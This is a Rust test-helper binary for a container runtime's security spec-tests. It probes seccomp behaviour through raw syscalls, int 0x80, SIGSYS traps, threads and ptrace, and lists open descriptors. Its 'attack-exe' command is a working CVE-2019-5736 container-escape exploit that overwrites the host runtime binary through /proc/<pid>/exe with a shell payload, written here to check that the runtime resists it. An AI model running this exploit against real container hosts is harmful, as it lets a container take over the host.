//! A helper the security spec-tests copy into container root filesystems (with its shared
//! libraries) to do what busybox cannot: raw syscalls, SIGSYS handlers, threads, ptrace,
//! listing its own fds, and the CVE-2019-5736 attack on /proc/<pid>/exe.
//!
//! Usage: `berth-probe <command> [args]`; every command prints one line per result.

use std::ffi::CString;
use std::io::Write;
use std::sync::atomic::{AtomicI32, Ordering};
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let cmd = args.get(1).map(String::as_str).unwrap_or("");
    let nums: Vec<i64> = args.iter().skip(2).filter_map(|a| parse_num(a)).collect();
    match cmd {
        "syscall" => syscall_cmd(&nums),
        "trap" => trap_cmd(nums.first().copied().unwrap_or(-1)),
        "thread" => thread_cmd(nums.first().copied().unwrap_or(-1)),
        "trace" => trace_cmd(nums.first().copied().unwrap_or(-1)),
        "fds" => fds_cmd(),
        "attack-exe" => attack_exe(nums.first().copied().unwrap_or(3) as u64),
        "int80" => int80_cmd(&nums),
        "bench" => bench_cmd(&nums),
        "sleep" => std::thread::sleep(Duration::from_millis(
            nums.first().copied().unwrap_or(100) as u64
        )),
        _ => {
            eprintln!(
                "usage: berth-probe syscall|int80|bench|trap|thread|trace|fds|attack-exe|sleep ..."
            );
            std::process::exit(2);
        }
    }
    let _ = std::io::stdout().flush();
}

fn parse_num(s: &str) -> Option<i64> {
    match s.strip_prefix("0x") {
        Some(hex) => i64::from_str_radix(hex, 16).ok(),
        None => s.parse().ok(),
    }
}

fn raw(nr: i64, a: &[i64]) -> (i64, i32) {
    let g = |i: usize| a.get(i).copied().unwrap_or(0);
    // SAFETY: the tests only pass syscalls whose arguments are plain integers.
    let r = unsafe { libc::syscall(nr, g(0), g(1), g(2), g(3), g(4), g(5)) };
    (
        r,
        std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
    )
}

/// `syscall NR [args...]`: prints `ok <ret>` or `err <errno>`.
fn syscall_cmd(nums: &[i64]) {
    let Some((&nr, rest)) = nums.split_first() else {
        return;
    };
    match raw(nr, rest) {
        (r, _) if r >= 0 => println!("ok {r}"),
        (_, e) => println!("err {e}"),
    }
}

/// `int80 NR [args...]`: the i386 ABI's syscall entry (AUDIT_ARCH_I386 for seccomp);
/// prints `ok <ret>` or `err <errno>`.
#[cfg(target_arch = "x86_64")]
fn int80_cmd(nums: &[i64]) {
    let Some((&nr, rest)) = nums.split_first() else {
        return;
    };
    let g = |i: usize| rest.get(i).copied().unwrap_or(0);
    let ret: i64;
    // SAFETY: a compat syscall with integer arguments; rbx (reserved by LLVM) is swapped in
    // and out through a scratch register.
    unsafe {
        std::arch::asm!(
            "xchg {b}, rbx",
            "int 0x80",
            "xchg {b}, rbx",
            b = inout(reg) g(0) => _,
            inlateout("rax") nr => ret,
            in("rcx") g(1),
            in("rdx") g(2),
        );
    }
    let ret = ret as i32;
    if ret < 0 {
        println!("err {}", -ret);
    } else {
        println!("ok {ret}");
    }
}

#[cfg(not(target_arch = "x86_64"))]
fn int80_cmd(_: &[i64]) {
    println!("unsupported");
}

/// `bench NR COUNT`: the mean cost of COUNT calls of NR, in nanoseconds (seccomp filters
/// run on every call).
fn bench_cmd(nums: &[i64]) {
    let nr = nums.first().copied().unwrap_or(libc::SYS_getppid);
    let count = nums.get(1).copied().unwrap_or(100_000).max(1);
    let start = Instant::now();
    for _ in 0..count {
        let _ = raw(nr, &[]);
    }
    println!("{} ns", start.elapsed().as_nanos() / count as u128);
}

static TRAPPED: AtomicI32 = AtomicI32::new(-1);

extern "C" fn on_sigsys(_sig: libc::c_int, info: *mut libc::siginfo_t, _ctx: *mut libc::c_void) {
    // SAFETY: for SIGSYS the kernel fills `_sigsys`: { void *_call_addr; int _syscall; ... }
    // right after the three ints and padding of the siginfo header (offset 16 + 8).
    let nr = unsafe { *(info as *const u8).add(24).cast::<i32>() };
    TRAPPED.store(nr, Ordering::SeqCst);
}

/// `trap NR`: with a SIGSYS handler installed, calls NR; prints `trapped <nr>` when
/// SECCOMP_RET_TRAP delivered SIGSYS for it.
fn trap_cmd(nr: i64) {
    // SAFETY: installs a handler that only stores an integer.
    unsafe {
        let mut sa: libc::sigaction = std::mem::zeroed();
        sa.sa_sigaction = on_sigsys as *const () as usize;
        sa.sa_flags = libc::SA_SIGINFO;
        libc::sigaction(libc::SIGSYS, &sa, std::ptr::null_mut());
    }
    let _ = raw(nr, &[]);
    match TRAPPED.load(Ordering::SeqCst) {
        -1 => println!("no trap"),
        n => println!("trapped {n}"),
    }
}

/// `thread NR`: a second thread calls NR; prints `main survived` if only that thread died.
/// A raw pthread: Rust's std aborts when one of its threads vanishes without unwinding.
fn thread_cmd(nr: i64) {
    extern "C" fn body(arg: *mut libc::c_void) -> *mut libc::c_void {
        // SAFETY: a syscall with integer arguments.
        unsafe { libc::syscall(arg as i64, 0, 0, 0) };
        std::ptr::null_mut()
    }
    // SAFETY: creating and joining a thread whose body only makes one syscall.
    unsafe {
        let mut t: libc::pthread_t = std::mem::zeroed();
        libc::pthread_create(&mut t, std::ptr::null(), body, nr as *mut libc::c_void);
        libc::pthread_join(t, std::ptr::null_mut());
    }
    println!("main survived");
}

/// `trace NR`: a ptrace'd child calls NR; prints `seccomp event <msg>` when the tracer saw
/// PTRACE_EVENT_SECCOMP (SECCOMP_RET_TRACE), with the filter's data as the event message.
fn trace_cmd(nr: i64) {
    // SAFETY: fork in a single-threaded process; the child only makes raw syscalls.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        // SAFETY: plain syscalls in the child.
        unsafe {
            libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0);
            libc::raise(libc::SIGSTOP);
            libc::syscall(nr, 0, 0, 0);
            libc::_exit(0);
        }
    }
    let mut status = 0;
    // SAFETY: waiting for and tracing our own child.
    unsafe {
        libc::waitpid(pid, &mut status, 0);
        libc::ptrace(
            libc::PTRACE_SETOPTIONS,
            pid,
            0,
            libc::PTRACE_O_TRACESECCOMP | libc::PTRACE_O_EXITKILL,
        );
        libc::ptrace(libc::PTRACE_CONT, pid, 0, 0);
        libc::waitpid(pid, &mut status, 0);
    }
    let event = (status >> 16) & 0xff;
    if libc::WIFSTOPPED(status) && event == libc::PTRACE_EVENT_SECCOMP {
        let mut msg: libc::c_ulong = 0;
        // SAFETY: GETEVENTMSG writes one unsigned long.
        unsafe {
            libc::ptrace(
                libc::PTRACE_GETEVENTMSG,
                pid,
                0,
                &mut msg as *mut libc::c_ulong,
            );
        }
        println!("seccomp event {msg}");
    } else {
        println!("no event (status {status:#x})");
    }
    // SAFETY: killing and reaping our own child.
    unsafe {
        libc::kill(pid, libc::SIGKILL);
        libc::waitpid(pid, &mut status, 0);
    }
}

/// `fds`: the open descriptors, without the one used to read /proc/self/fd.
fn fds_cmd() {
    let dir = std::fs::read_dir("/proc/self/fd").expect("reading /proc/self/fd");
    let mut fds: Vec<(i32, String)> = Vec::new();
    for e in dir.flatten() {
        let fd: i32 = e.file_name().to_string_lossy().parse().unwrap_or(-1);
        let target = std::fs::read_link(e.path())
            .map(|p| p.display().to_string())
            .unwrap_or_default();
        fds.push((fd, target));
    }
    fds.sort();
    for (fd, target) in fds {
        // The directory being read shows up as a descriptor on /proc/<pid>/fd.
        if target.ends_with("/fd") && target.starts_with("/proc/") {
            continue;
        }
        println!("{fd} {target}");
    }
}

/// `attack-exe SECONDS`: the CVE-2019-5736 attacker. Watches every process of the pid
/// namespace; for any whose /proc/<pid>/exe is not busybox or this probe, holds an O_PATH
/// descriptor to that binary and keeps trying to reopen it for writing (which succeeds once
/// no one executes it any more) to overwrite it. Prints what it saw and did.
fn attack_exe(seconds: u64) {
    let me = std::process::id().to_string();
    let deadline = Instant::now() + Duration::from_secs(seconds);
    let mut held: Vec<(String, i32)> = Vec::new();
    println!("attacker ready");
    let _ = std::io::stdout().flush();
    while Instant::now() < deadline {
        if let Ok(dir) = std::fs::read_dir("/proc") {
            for e in dir.flatten() {
                let pid = e.file_name().to_string_lossy().into_owned();
                if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me {
                    continue;
                }
                if held.iter().any(|(p, _)| p.starts_with(&format!("{pid} "))) {
                    continue;
                }
                let exe = format!("/proc/{pid}/exe");
                let Ok(link) = std::fs::read_link(&exe) else {
                    continue;
                };
                let link = link.display().to_string();
                if link.contains("busybox") || link.contains("berth-probe") {
                    continue;
                }
                let c = CString::new(exe).unwrap_or_default();
                // SAFETY: open with a valid path; the fd is kept for the attack.
                let fd = unsafe { libc::open(c.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
                if fd >= 0 {
                    println!("found {pid} {link}");
                    let _ = std::io::stdout().flush();
                    held.push((format!("{pid} {link}"), fd));
                }
            }
        }
        for (what, fd) in &held {
            let path = CString::new(format!("/proc/self/fd/{fd}")).unwrap_or_default();
            // SAFETY: reopening our own O_PATH descriptor for writing.
            let w = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
            if w >= 0 {
                let payload = b"#!/bin/sh\necho pwned\n";
                // SAFETY: writing a buffer to the fd just opened.
                let n = unsafe { libc::write(w, payload.as_ptr().cast(), payload.len()) };
                // SAFETY: closing our fd.
                unsafe { libc::close(w) };
                if n > 0 {
                    println!("overwrote {what}");
                    let _ = std::io::stdout().flush();
                    return;
                }
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    println!("attacker done");
}
